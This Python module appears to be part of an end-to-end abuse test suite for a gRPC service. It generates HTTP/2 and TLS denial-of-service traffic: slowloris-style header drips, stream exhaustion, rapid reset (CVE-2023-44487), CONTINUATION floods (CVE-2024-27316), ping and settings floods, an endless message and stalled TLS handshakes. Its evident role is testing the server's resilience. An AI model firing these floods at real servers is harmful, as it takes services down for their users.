"""What a hostile program does with connections: what it says on each at first, and what it goes on with."""

import ssl
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from itertools import count

from tests.e2e.abuse import http2

_SUBSCRIBE = "/appshare.v1.InboxService/Subscribe"
_REGISTER = "/appshare.v1.AccountService/Register"
_CALLS_OF_A_CONNECTION = 100
_AT_A_TIME = 100
"""Frames that are written in one go."""


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
        share: connections, as a part of those that the attacker may have; 0: a single one.
        pause: seconds between one part of `more` and the next; 0: as fast as the other side reads.
        more: makes what follows the first words on a connection; None: nothing does.
    """

    first_words: bytes = b""
    share: float = 1.0
    pause: float = 0.0
    more: Callable[[], Iterator[bytes]] | None = None

    def connections(self, at_most: int) -> int:
        """How many connections it opens."""
        return max(1, round(at_most * self.share))


def _begun_calls(path: str) -> bytes:
    """As many calls as a connection may have, of none of which the message comes."""
    return b"".join(http2.begun_call(stream, path) for stream in range(1, 2 * _CALLS_OF_A_CONNECTION, 2))


def _drip() -> Iterator[bytes]:
    """A head that never ends, a header at a time."""
    for number in count():
        yield http2.continued_head(1, http2.header(f"x-{number}", "slow"))


def _many_streams() -> Iterator[bytes]:
    """Calls that are begun and never sent, more than the server allows."""
    for start in count(1, 2 * _AT_A_TIME):
        yield b"".join(http2.begun_call(stream, _SUBSCRIBE) for stream in range(start, start + 2 * _AT_A_TIME, 2))


def _rapid_reset() -> Iterator[bytes]:
    """Calls that are begun and ended at once (CVE-2023-44487)."""
    for start in count(1, 2 * _AT_A_TIME):
        streams = range(start, start + 2 * _AT_A_TIME, 2)
        yield b"".join(http2.begun_call(stream, _SUBSCRIBE) + http2.reset(stream) for stream in streams)


def _repeated(frame: bytes) -> Callable[[], Iterator[bytes]]:
    def more() -> Iterator[bytes]:
        while True:
            yield frame * _AT_A_TIME

    return more


def _endless_head() -> Iterator[bytes]:
    """A head that goes on and on (CVE-2024-27316)."""
    large = http2.continued_head(1, http2.header("x-large", "x" * 8_000))
    while True:
        yield large * 10


def _endless_message() -> Iterator[bytes]:
    """A message of 4 GiB."""
    yield http2.begun_call(1, _REGISTER) + http2.message(1, b"x" * 10_000, 2**32 - 1)
    while True:
        yield http2.message(1, b"x" * 1_000_000, 2**32 - 1)


def _hello() -> bytes:
    """What a client of TLS says first."""
    heard, said = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(heard, said, server_hostname="localhost")
    with suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return said.read()


def _byte_by_byte() -> Iterator[bytes]:
    for byte in _HELLO:
        yield bytes([byte])


_HELLO = _hello()

ATTACKS = {
    "says nothing": Attack(),
    "half a preface": Attack(http2.HALF_PREFACE),
    "a connection and no call": Attack(http2.opening()),
    "slow headers": Attack(http2.opening() + http2.begun_head(1, _SUBSCRIBE), share=0.1, pause=1.0, more=_drip),
    "calls without a message": Attack(http2.opening() + _begun_calls(_REGISTER), share=0.1),
    "many streams": Attack(http2.opening(), share=0, more=_many_streams),
    "rapid reset": Attack(http2.opening(), share=0, more=_rapid_reset),
    "pings": Attack(http2.opening(), share=0, more=_repeated(http2.ping())),
    "settings": Attack(http2.opening(), share=0, more=_repeated(http2.settings())),
    "endless headers": Attack(http2.opening() + http2.begun_head(1, _SUBSCRIBE), share=0.003, more=_endless_head),
    "an endless message": Attack(http2.opening(), share=0, more=_endless_message),
}
"""By name, on a port that speaks plain text."""

TLS_ATTACKS = {
    "TLS, says nothing": Attack(),
    "TLS, a handshake byte by byte": Attack(pause=1.0, more=_byte_by_byte),
    "TLS, half a handshake": Attack(_HELLO),
    "TLS, and then no TLS": Attack(_HELLO + http2.opening()),
}
"""By name, on a port that speaks TLS."""
